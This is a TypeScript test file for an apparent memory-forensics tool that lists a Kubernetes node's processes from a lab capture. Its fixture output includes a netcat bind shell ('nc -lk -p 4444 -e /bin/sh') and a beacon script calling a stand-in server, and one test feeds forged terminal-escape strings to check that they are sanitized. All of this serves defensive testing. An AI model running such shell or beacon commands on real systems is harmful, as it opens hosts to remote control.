import { create } from '@bufbuild/protobuf';
import { type Process, ProcessSchema } from '@kcorder/proto/gen/kcorder/v1/analysis_pb.ts';
import { OutcomeKind } from '@kcorder/proto/gen/kcorder/v1/capture_pb.ts';
import { expect, test } from 'vitest';
import { analysisOf, captureOf } from '../fixtures/lab-capture.ts';
import type { Look } from '../output/grid.ts';
import { paintFor } from '../output/paint.ts';
import { widthOf } from '../output/width.ts';
import { type ProcessView, processesText } from './processes.ts';

const view: ProcessView = { kernelThreads: false, socketsKnown: true };
const look: Look = { paint: paintFor(false), width: 120, wide: false };

const golden = `
capture 0193a5c2d7 of lab-1, complete, taken 2026-11-22 19:03:11 UTC, 20 processes

PID  PPID  NS-PID    UID  START (UTC)          STATE          LISTEN               COMMAND

lab-1 > demo > exfil-demo > beacon
540   402       1      0  2026-11-22 18:53:17  sleeping                            sh -c exec-loop
561   540       7      0  2026-11-22 18:53:18  sleeping       udp *:5353           └─ python3 /opt/beacon.py --server 2…
577   561      12      0  2026-11-22 18:54:41  zombie                                 └─ [sh]
578   561      13      0  2026-11-22 18:54:42  leader exited                          └─ [worker] (command line not rea…

lab-1 > demo > exfil-demo > netcat
512   402       1      0  2026-11-22 18:53:17  sleeping       tcp *:4444           nc -lk -p 4444 -e /bin/sh

lab-1 > demo > exfil-demo > container 0c5d9e3b1a28 (sandbox or unnamed)
498   402       1  65535  2026-11-22 18:53:16  sleeping                            /pause

lab-1 > shop > web-7d9c4f6b8-x2x5q > log-shipper
  no process in this container

lab-1 > shop > web-7d9c4f6b8-x2x5q > nginx
630   402       1      0  2026-11-22 18:53:31  sleeping       tcp *:80             nginx: master process nginx -g daemo…
                                                              tcp [::]:80
655   630      29    101  2026-11-22 18:53:32  sleeping                            └─ nginx: worker process
656   630      30    101  2026-11-22 18:53:32  sleeping                            └─ nginx: worker process

lab-1 > pod f47ac10b-58cc-4372-a567-0e02b2c3d479 > container 5d41402abc4b
701   402       1   1000  2026-11-22 18:54:11  sleeping                            /app/server

lab-1 > node processes
  1     0       1      0  2026-11-22 18:53:11  sleeping                            /sbin/init
214     1     214      0  2026-11-22 18:53:13  sleeping       tcp 127.0.0.1:35501  └─ /usr/bin/containerd
380     1     380      0  2026-11-22 18:53:14  sleeping       tcp *:22             └─ /usr/sbin/sshd -D
                                                              tcp [::]:22
402     1     402      0  2026-11-22 18:53:15  sleeping                            └─ /usr/bin/containerd-shim-runc-v2 …

lab-1 > kernel threads
  6 kernel threads; --all lists them
`.trimStart();

test('the processes of a node, at 120 columns', () => {
  const text = processesText(analysisOf(), view, look);
  expect(text).toBe(golden);
  expect(Math.max(...text.split('\n').map(widthOf))).toBeLessThanOrEqual(120);
});

test('without a terminal nothing is cut', () => {
  const text = processesText(analysisOf(), view, { ...look, width: undefined });
  expect(text).toContain(
    '└─ python3 /opt/beacon.py --server 203.0.113.9:8443 --interval 5 --jitter 0.3 --user-agent Mozilla/5.0\n',
  );
});

test('kernel threads are listed when asked for', () => {
  const text = processesText(analysisOf(), { ...view, kernelThreads: true }, look);
  expect(text).toMatch(/lab-1 > kernel threads\n +2 +0 .*\[kthreadd\]\n +3 +2 .*└─ \[rcu_gp\]\n/);
  expect(text).not.toContain('--all lists them');
});

test('a hidden process is marked, and its thread of the kernel shown though others are not', () => {
  const processes = [2, 3, 7].map((pid) =>
    create(ProcessSchema, { pid, name: `n${pid}`, hidden: pid !== 3, kernelThread: pid !== 7, commandLine: 'sh' }),
  );
  const text = processesText(analysisOf({ processes, containers: [] }), view, look);
  expect(text).toMatch(/node processes\n +7 .* \(HIDDEN\) sh\n/);
  expect(text).toMatch(/kernel threads\n +2 .* \(HIDDEN\) sh\n {2}2 kernel threads; --all/);
});

test('wide tells the threads, host, container, task and cgroup of a process', () => {
  const text = processesText(analysisOf(), view, { ...look, wide: true });
  const line = text.split('\n').find((candidate) => candidate.includes('nc -lk')) ?? '';
  expect(line.split(/ {2,}/).slice(-6)).toEqual([
    '1',
    'exfil-demo',
    `4be1c0d9a3f7${'0'.repeat(52)}`,
    '0xffff9c2a00000200',
    `/kubepods/besteffort/pod1b4e28ba-2fa1-11d2-883f-0016d3cca427/4be1c0d9a3f7${'0'.repeat(52)}`,
    'nc -lk -p 4444 -e /bin/sh',
  ]);
});

test('when the sockets could not be read, no process seems to listen on nothing', () => {
  const text = processesText(analysisOf(), { ...view, socketsKnown: false }, look);
  expect(text).toMatch(/sleeping +\? +nc -lk/);
  expect(text).not.toContain('tcp');
});

test('a partial image is marked, with what is missing', () => {
  const outcome = { kind: OutcomeKind.PARTIAL, reason: 'acquirer_died', detail: 'AVML was killed by SIGKILL' };
  const text = processesText(analysisOf({ capture: captureOf({ outcome }) }), view, look);
  expect(text.split('\n').slice(0, 2)).toEqual([
    'capture 0193a5c2d7 of lab-1, PARTIAL, taken 2026-11-22 19:03:11 UTC, 20 processes',
    'PARTIAL image, processes may be missing: acquirer_died: AVML was killed by SIGKILL',
  ]);
});

test('names that a hostile node chose cannot draw lines of their own', () => {
  const forged = '\n\x1b[1mlab-1 > node processes\x1b[0m\n  1 0 fine';
  const process: Process = create(ProcessSchema, {
    pid: 7,
    state: forged,
    commandLine: forged,
    placement: { podUid: forged, containerId: forged, podNamespace: forged, podName: forged, containerName: forged },
  });
  const text = processesText(analysisOf({ processes: [process], containers: [] }), view, look);
  expect(text.split('\n').length).toBe(7);
  expect(text).not.toContain('\x1b');
});
